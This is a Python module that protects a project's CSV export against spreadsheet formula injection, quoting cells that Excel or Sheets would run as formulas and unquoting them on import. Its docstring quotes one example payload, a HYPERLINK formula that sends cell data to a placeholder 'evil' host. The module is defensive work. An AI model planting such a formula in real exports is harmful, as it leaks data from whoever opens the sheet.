"""Cells written for spreadsheets: a CSV cell that Excel would run as a formula is guarded.

A cell starting with `=`, `+`, `-` or `@` (or a tab or carriage return, which Excel skips
before one) is a formula to Excel, LibreOffice and Google Sheets: a customer named
`=HYPERLINK("http://evil/?"&A1, "click")` exported to CSV would send the sheet's data away
when a colleague opens it (OWASP, "CSV Injection"). As OWASP advises, such a cell is written
with a single quote in front (`'=HYPERLINK(...)`): the spreadsheet shows it as text, and a
person still reads the value. A number stays a number (`-5`, `+3.5`, `-1,234.50`, `-12%`):
it cannot be a formula, and a tool reading the CSV gets it as written; so does a lone
`-` (a table's "none").

Importing a CSV drops the quote again (`unguarded`), so flowkit reads its own export back as
the values it wrote. The rule is exact both ways: a cell gets the quote when it starts with
one of those characters, or when it already starts with a quote followed by one of them or
by another quote (so `'=x` typed by someone is written `''=x`); a cell read drops one
leading quote exactly when what follows starts with one of those characters or a quote.
A value such as `'s-Hertogenbosch` is neither guarded nor changed on import.

XLSX export needs none of this: its cells are typed as text, never as formulas.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_NUMBER = re.compile(r"[+-]?(?:\d[\d,]*(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")


def guarded(cell: str) -> str:
    """`cell` as a CSV cell no spreadsheet runs as a formula."""
    if len(cell) < 2 or not cell.startswith((*FORMULA_STARTS, QUOTE)):
        return cell  # a lone "-" (nothing, in a table) calls nothing
    if cell.startswith(QUOTE):
        return QUOTE + cell if _quoted(cell) else cell
    return cell if _NUMBER.fullmatch(cell) else QUOTE + cell


def unguarded(cell: str) -> str:
    """A CSV cell as it was before `guarded`: one leading quote dropped where guarding
    would have put it."""
    return cell[1:] if _quoted(cell) else cell


def _quoted(cell: str) -> bool:
    return cell.startswith(QUOTE) and len(cell) > 1 and cell[1] in (*FORMULA_STARTS, QUOTE)


class GuardedWriter:
    """csv.writer whose every cell is `guarded`: the one CSV writer of flowkit's output."""

    def __init__(self, out: TextIO, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[str]) -> None:
        self._writer.writerow([guarded(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[str]]) -> None:
        for row in rows:
            self.writerow(row)
